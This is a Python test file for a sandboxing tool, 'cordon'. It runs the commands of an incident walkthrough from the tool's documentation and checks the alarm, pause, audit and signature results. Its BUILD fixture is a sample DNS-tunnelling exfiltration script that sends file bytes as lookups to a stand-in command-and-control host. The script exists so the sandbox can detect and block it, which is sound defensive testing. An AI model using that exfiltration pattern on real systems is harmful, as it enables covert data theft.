#!/usr/bin/python3 -B
"""Goal: the commands of doc/observability.md, "An incident, step by step", lead from an alarm to a proof.

    test_incident.py CORDON [name ...]
"""
import json
import os
import re
import subprocess
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from harness import Skip, check, equal, has, run_tests, wait_for  # noqa: E402
import level  # noqa: E402
from leveled import Leveled as Server  # noqa: E402

PAGE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "doc", "observability.md")
VERIFY = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "examples", "verify.py")
ID = "ibwni7pabh90zhmxg"  # of the session on the page
BUILD = """cd /tmp
od -An -v -tx1 -w20 -N 800 /usr/bin/env | tr -d ' ' > data
while read l; do getent hosts $l.c2.example > /dev/null; done < data
"""


def section():
    with open(PAGE) as f:
        text = f.read()
    return text[text.index("## An incident, step by step"):]


def commands():
    """The lines of the page that a reader types."""
    found = re.findall(r"^\$ (.*)$", section(), re.M)
    check(len(found) >= 12, found)
    return found


def test_from_the_alarm_to_the_proof(server):
    if level.LEVEL != "container":
        raise Skip("traces are of level container")
    folder = os.path.join(server.folder, "incident")
    os.mkdir(folder)
    for name, text in (("policy.json", re.search(r"^\{.*refused_names.*\}$", section(), re.M)[0]), ("build.sh", BUILD)):
        with open(os.path.join(folder, name), "w") as f:
            f.write(text)
    env = dict(os.environ, CORDON_SERVER=server.url, CORDON_API_KEY=server.key, PATH=os.path.dirname(server.program) + ":" + os.environ["PATH"])
    said, session, number = {}, None, None
    for command in commands():
        words = command.replace(ID, session or "").replace("examples/verify.py", VERIFY)
        words = words if number is None else words.replace("audit show 6", f"audit show {number}")
        done = subprocess.run(words, shell=True, cwd=folder, env=env, capture_output=True, text=True, timeout=60)
        said[command] = done.stdout + done.stderr
        equal(done.returncode, 1 if "other.jsonl" in command else 0, f"{command}: {said[command]}")
        if command.startswith("cordon create"):
            session = done.stdout.strip()
            server.ids.add(session)
        if command.startswith("cordon exec"):
            wait_for(lambda: server.get(session)["state"] == "paused", 60, "the pause by the alarm")
        if command.startswith("cordon audit ls"):
            number = re.search(r"^(\d+) .* alarm ", done.stdout, re.M)[1]
        if command.startswith("cordon rm"):
            server.reaches(session, "ended")
    of = lambda part: next(text for command, text in said.items() if part in command)  # noqa: E731
    has(of("timeline --types"), "alarm refused_names")
    has(of("cordon trace"), "c2.example")
    has(of("cordon net"), "deny  dns")
    equal(json.loads(of("audit show"))["record"]["data"]["action"], "pause")
    for part in ("audit records", "--since before.checkpoint"):
        has(of(part), "good")
    equal(json.loads(of(VERIFY.rsplit("/", 1)[1]))["exit"], 0)
    has(of("other.jsonl"), "first bad record")
    has(of("report verify"), "the signature is good")


if __name__ == "__main__":
    run_tests(globals(), Server, audit_checkpoint="500ms")
